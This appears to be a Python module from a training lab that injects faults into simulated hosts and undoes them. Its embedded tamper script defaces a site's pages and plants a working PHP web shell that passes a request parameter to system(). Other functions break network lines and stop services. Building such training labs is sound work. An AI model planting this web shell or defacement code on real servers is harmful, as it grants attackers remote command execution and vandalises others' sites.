"""Faults to inject into the lab, and their undo.

Each function returns ``{"fault": ..., "target": ..., "actions": [what was done, ...]}``
and raises UsageError (exit 2) for a name that is not valid, listing the valid ones.
"""

from __future__ import annotations

import functools

from ..errors import UsageError
from . import layout as L
from . import routing, services, site
from . import topology as T
from .hosts import run_in
from .lock import lab_lock
from .system import require_root

# Runs inside the web host (its own mount namespace sees its own /var/www). Fixed text; the
# site path comes in as an argument.
TAMPER_SCRIPT = r"""
import os, sys
root = sys.argv[1]
deface = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>HACKED</title></head>'
          '<body style="background:#000;color:#0f0"><h1>Hacked by lab-intruder</h1>'
          '<p>网站已被入侵 This site has been defaced.</p></body></html>\n')
done = []
with open(os.path.join(root, "index.html"), "w", encoding="utf-8") as f:
    f.write(deface)
done.append("index.html")
for rel in sys.argv[2:]:
    path = os.path.join(root, rel)
    with open(path, encoding="utf-8") as f:
        text = f.read()
    text = text.replace("<main>", '<main><h1 style="color:red">Hacked by lab-intruder</h1>', 1)
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)
    done.append(rel)
os.makedirs(os.path.join(root, "uploads"), exist_ok=True)
with open(os.path.join(root, "uploads", "shell.php"), "w") as f:
    f.write("<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>\n")
done.append("uploads/shell.php (planted)")
print("\n".join(done))
"""
TAMPERED_ARTICLES = 3
PLANTED_FILE = "uploads/shell.php"


def _locked(fn):
    """Faults need root and the lab lock (never race a running `lab up`)."""
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        require_root("fault")
        with lab_lock():
            return fn(*args, **kwargs)
    return wrapper


def _web_host(host: str) -> str:
    T.host(host)
    if host not in T.WEB_HOSTS:
        raise UsageError(f"lab host {host} serves no site (valid: {', '.join(T.WEB_HOSTS)})")
    return host


@_locked
def tamper(host: str) -> dict:
    """Deface the home page and a few articles and plant a web shell, inside ``host``."""
    _web_host(host)
    articles = site.article_paths()[:TAMPERED_ARTICLES]
    proc = run_in(host, ["python3", "-c", TAMPER_SCRIPT, T.SITE_PATH, *articles])
    actions = [f"modified {T.SITE_PATH}/{ln}" if "planted" not in ln
               else f"planted {T.SITE_PATH}/{ln.split()[0]}"
               for ln in proc.stdout.splitlines() if ln.strip()]
    return {"fault": "tamper", "target": host, "actions": actions}


@_locked
def untamper(host: str) -> dict:
    """Put the pristine portal back on ``host`` (a lab reset, not a restore from backup)."""
    _web_host(host)
    before = site.is_pristine(L.site_dir(host))
    site.write_site(L.site_dir(host))
    return {"fault": "untamper", "target": host,
            "actions": [] if before else [f"rewrote {T.SITE_PATH} on {host} to the pristine site"]}


@_locked
def line_down(name: str) -> dict:
    """Make line ``name`` dead (both ends drop everything; the link stays up)."""
    return {"fault": "line-down", "target": T.line(name).name, "actions": routing.line_down(name)}



@_locked
def line_lossy(name: str) -> dict:
    """Make line ``name`` lose every other probe (gw1 drops every other echo request)."""
    return {"fault": "line-lossy", "target": T.line(name).name,
            "actions": routing.line_lossy(name)}

@_locked
def line_up(name: str) -> dict:
    """Undo :func:`line_down`."""
    return {"fault": "line-up", "target": T.line(name).name, "actions": routing.line_up(name)}


def _check_service(host: str, service: str) -> None:
    T.host(host)
    if service not in T.SERVICE_NAMES:
        raise UsageError(f"unknown service {service!r} (valid: {', '.join(T.SERVICE_NAMES)})")
    services.service(host, service)


@_locked
def stop_service(host: str, service: str) -> dict:
    """Stop ``service`` on ``host`` (its process ends; its data stays)."""
    _check_service(host, service)
    stopped = services.stop(host, service)
    return {"fault": "stop", "target": f"{host}/{service}",
            "actions": [f"stopped {service} on {host}"] if stopped else []}


@_locked
def start_service(host: str, service: str) -> dict:
    """Start ``service`` on ``host`` again and wait until it answers."""
    _check_service(host, service)
    started = services.start(host, service)
    return {"fault": "start", "target": f"{host}/{service}",
            "actions": [f"started {service} on {host}"] if started else []}
